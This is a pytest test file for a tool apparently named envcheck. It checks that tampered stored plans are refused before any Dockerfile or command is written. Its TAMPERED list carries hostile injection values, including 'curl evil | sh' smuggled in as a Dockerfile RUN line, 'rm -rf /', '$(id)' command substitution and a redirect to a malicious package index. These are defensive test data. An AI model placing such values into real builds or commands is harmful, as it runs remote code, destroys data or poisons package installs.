"""Plans edited by hand, or by somebody else's: what is written into files and commands is what it is called."""

import copy
import json

import pytest

EVIL = "x\nRUN curl evil | sh\n#"
TARGET = ["--gpu", "A100", "--driver", "525.85.12"]

TAMPERED = [
    (("plan", "python"), EVIL),
    (("plan", "python"), "3.11; rm -rf /"),
    (("plan", "python"), "٣.١١"),
    (("plan", "python"), 3.11),
    (("plan", "python"), "1" * 100_000),
    (("plan", "arch"), "$(id)"),
    (("plan", "runtime"), EVIL),
    (("plan", "matrix"), EVIL),
    (("plan", "base_image", "image"), "a b"),
    (("plan", "base_image", "python_from"), "curl"),
    (("plan", "builds", 0, "name"), "--index-url"),
    (("plan", "builds", 0, "version"), "1'; touch /x; '"),
    (("plan", "builds", 0, "version"), "9" * 5000),
    (("plan", "builds", 0, "index"), "https://x/$(id)"),
    (("plan", "builds", 0, "index"), "file:///etc"),
    (("plan", "builds", 0, "module"), "os;evil()"),
    (("plan", "builds", 0, "pins"), ["--extra-index-url http://evil"]),
    (("plan", "constraints"), ["numpy<2\n--index-url http://evil"]),
    (("plan", "system"), [EVIL]),
    (("plan", "env"), {"A": EVIL}),
    (("plan", "env"), {EVIL: "1"}),
    (("plan", "conditions"), [EVIL]),
    (("plan", "builds"), []),
    (("plan",), None),
    (("status",), "conflict"),
    (("schema",), "envcheck.resolve/9"),
]


@pytest.fixture
def sound(envcheck):
    code, out, _ = envcheck("resolve", "torch==2.0.1", "tensorflow==2.12.0", *TARGET, "--format", "json")
    assert code == 0
    return json.loads(out)


@pytest.mark.parametrize(
    ("path", "value"), TAMPERED, ids=lambda value: str(value)[:40].encode("unicode_escape").decode()
)
def test_a_tampered_plan_is_refused_before_anything_is_written(envcheck, sound, tmp_path, path, value):
    document = copy.deepcopy(sound)
    place = document
    for key in path[:-1]:
        place = place[key]
    place[path[-1]] = value
    stored = tmp_path / "plan.json"
    stored.write_text(json.dumps(document))
    code, out, err = envcheck("dockerfile", "--plan", str(stored))
    assert (code, out) == (2, "")
    assert str(path[-1]) in err or "plan" in err
    assert len(err) < 2000


def test_an_untouched_plan_and_one_with_later_keys_pass(envcheck, sound, tmp_path):
    stored = tmp_path / "plan.json"
    stored.write_text(json.dumps(sound))
    _, before, _ = envcheck("dockerfile", "--plan", str(stored))
    stored.write_text(json.dumps({**sound, "later": 1, "plan": {**sound["plan"], "later": {}}}))
    code, after, _ = envcheck("dockerfile", "--plan", str(stored))
    assert code == 0
    assert before == after
    assert envcheck("resolve", "--plan", str(stored), "--format", "requirements")[0] == 0


def test_a_fix_can_be_typed_for_the_machine_in_question(envcheck, host_file):
    host = host_file('platform = "windows"\nos = "windows11"\narch = "x86_64"\ndriver = "570.65"\n')
    _, out, _ = envcheck("resolve", "tensorflow==2.11.0", "--host", host, "--format", "json")
    commands = [fix["command"] for fix in json.loads(out)["fixes"] if fix["command"]]
    assert commands
    assert all(f"--host {host}" in command for command in commands)
    _, out, _ = envcheck("resolve", "tensorflow==2.8.0", "--cpu", "--arch", "aarch64", "--format", "json")
    commands = [fix["command"] for fix in json.loads(out)["fixes"] if fix["command"]]
    assert all("--cpu" in command.split() for command in commands)


def test_a_wish_on_an_unknown_machine_is_not_said_to_fit(envcheck, host_file):
    code, out, _ = envcheck("doctor", "torch", "--host", host_file('os_name = "Ubuntu"'), "--format", "json")
    document = json.loads(out)
    assert (code, document["summary"]["ok"]) == (3, None)
    assert not any("can run here" in text for text in document["fine"])
    assert any(item["what"] == "whether torch can run" for item in document["unchecked"])


def test_a_plan_tells_its_matrix_and_a_replay_tells_that_the_matrix_has_changed(envcheck, sound, tmp_path):
    """What is replayed stays as it was, byte for byte; the remark stands beside it."""
    stored, overlay = tmp_path / "plan.json", tmp_path / "rows.toml"
    stored.write_text(json.dumps(sound))
    overlay.write_text('schema = "envcheck.matrix/1"\n\n[sources]\nus = "Our pipeline"\n')
    assert sound["plan"]["matrix"].startswith("sha256:")
    for words in (("resolve", "--format", "json"), ("dockerfile",)):
        code, same, err = envcheck(*words, "--plan", str(stored))
        assert (code, "matrix" in err) == (0, False)
        code, later, err = envcheck(*words, "--plan", str(stored), "--matrix", str(overlay))
        assert (code, later) == (0, same)
        assert "another state of the matrix" in err
    del sound["plan"]["matrix"]
    stored.write_text(json.dumps(sound))
    assert "matrix" not in envcheck("resolve", "--plan", str(stored))[2]


def test_the_image_of_a_plan_is_labelled_with_its_matrix(envcheck, sound, tmp_path):
    stored = tmp_path / "plan.json"
    stored.write_text(json.dumps(sound))
    assert (
        f'dev.envcheck.matrix="{sound["plan"]["matrix"]}"'
        in envcheck("dockerfile", "--form", "factory", "--plan", str(stored))[1]
    )


@pytest.mark.parametrize("format_", ["json", "github", "bake", "bake-hcl"])
def test_a_stored_plan_goes_into_a_grid_byte_for_byte(envcheck, sound, tmp_path, format_):
    stored = tmp_path / "plan.json"
    stored.write_text(json.dumps(sound))
    code, out, _ = envcheck("ci", "--plan", str(stored), "--format", format_)
    assert code == 0
    if format_ == "json":
        assert json.loads(out)["cells"][0]["plan"] == sound["plan"]
    elif format_ == "github":
        assert json.loads(json.loads(out)["include"][0]["plan"])["plan"] == sound["plan"]
    else:
        inline = next(iter(json.loads(out)["target"].values()))["dockerfile-inline"] if format_ == "bake" else out
        dockerfile = envcheck("dockerfile", "--plan", str(stored))[1]
        assert dockerfile in inline.replace("$${", "${").replace("%%{", "%{")


def test_the_plans_of_several_hosts_are_a_grid_as_they_were_stored(envcheck, tmp_path):
    hosts = {"a": 'gpus = ["NVIDIA A100"]\ndriver = "580.65.06"', "b": 'gpus = ["AMD Instinct MI300X"]'}
    for name, text in hosts.items():
        (tmp_path / f"{name}.toml").write_text(f'{text}\nplatform = "linux"\narch = "x86_64"\n')
    words = [word for name in hosts for word in ("--host", str(tmp_path / f"{name}.toml"))]
    stored = tmp_path / "plans.json"
    assert envcheck("resolve", "torch", *words, "--format", "json", "--output", str(stored))[0] == 0
    code, out, _ = envcheck("ci", "--plan", str(stored), "--format", "json")
    assert code == 0
    plans = [answer["plan"] for answer in json.loads(stored.read_text())]
    assert [cell["plan"] for cell in json.loads(out)["cells"]] == plans
    assert len({cell["name"] for cell in json.loads(out)["cells"]}) == len(plans) == 2


@pytest.mark.parametrize("words", [["torch"], ["--gpu", "A100"], ["--python", "3.12"], ["--driver", "580.65.06"]])
def test_nothing_is_asked_beside_a_stored_plan(envcheck, sound, tmp_path, words):
    stored = tmp_path / "plan.json"
    stored.write_text(json.dumps(sound))
    code, out, err = envcheck("ci", "--plan", str(stored), *words)
    assert (code, out) == (2, "")
    assert "--plan replays" in err


@pytest.mark.parametrize("command", [["ci", "--plan"], ["verify", "image:1", "--plan"], ["resolve", "--plan"]])
@pytest.mark.parametrize(("path", "value"), TAMPERED[:3] + TAMPERED[-3:], ids=lambda value: str(value)[:20])
def test_every_command_that_takes_a_plan_refuses_a_tampered_one(envcheck, sound, tmp_path, command, path, value):
    place = sound
    for key in path[:-1]:
        place = place[key]
    place[path[-1]] = value
    stored = tmp_path / "plan.json"
    stored.write_text(json.dumps(sound))
    code, out, err = envcheck(*command, str(stored))
    assert (code, out) == (2, "")
    assert str(path[-1]) in err or "plan" in err
